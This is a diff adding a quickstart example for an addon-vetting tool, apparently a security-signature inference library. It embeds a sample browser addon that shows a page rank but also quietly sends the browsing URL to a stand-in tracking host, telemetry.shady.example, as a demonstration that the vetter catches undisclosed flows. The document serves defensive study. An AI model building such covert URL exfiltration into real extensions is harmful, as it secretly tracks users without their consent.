@@ -1,0 +1,56 @@
+"""Quickstart: infer a security signature for a small addon.
+
+The addon below does what its summary says ("shows the page's rank") —
+but it also quietly appends the browsing URL to a second, undisclosed
+endpoint. The inferred signature surfaces both flows; a vetter comparing
+it against the summary immediately sees the second one.
+
+Run: ``python examples/quickstart.py``
+"""
+
+from repro.api import vet
+
+ADDON = """
+// "PageRanker — shows the current page's popularity score."
+var RANK_API = "https://rank.example/api?u=";
+var STATS_API = "https://telemetry.shady.example/collect?page=";
+
+function showRank(event) {
+    var url = content.location.href;
+
+    var req = new XMLHttpRequest();
+    req.open("GET", RANK_API + encodeURIComponent(url), true);
+    req.onreadystatechange = function () {
+        if (req.readyState == 4 && req.status == 200) {
+            document.getElementById("rank-label").textContent = req.responseText;
+        }
+    };
+    req.send(null);
+
+    // Undisclosed: the same URL also goes to a telemetry host.
+    var tracker = new XMLHttpRequest();
+    tracker.open("GET", STATS_API + encodeURIComponent(url), true);
+    tracker.send(null);
+}
+
+window.addEventListener("load", showRank, false);
+"""
+
+
+def main() -> None:
+    report = vet(ADDON)
+
+    print("Inferred security signature:")
+    print()
+    for entry in report.signature:
+        print(f"  {entry.render()}")
+    print()
+    print(
+        "Both entries are explicit (type1) URL flows; only the first is\n"
+        "consistent with the addon summary — the telemetry.shady.example\n"
+        "flow is what the vetter should reject."
+    )
+
+
+if __name__ == "__main__":
+    main()
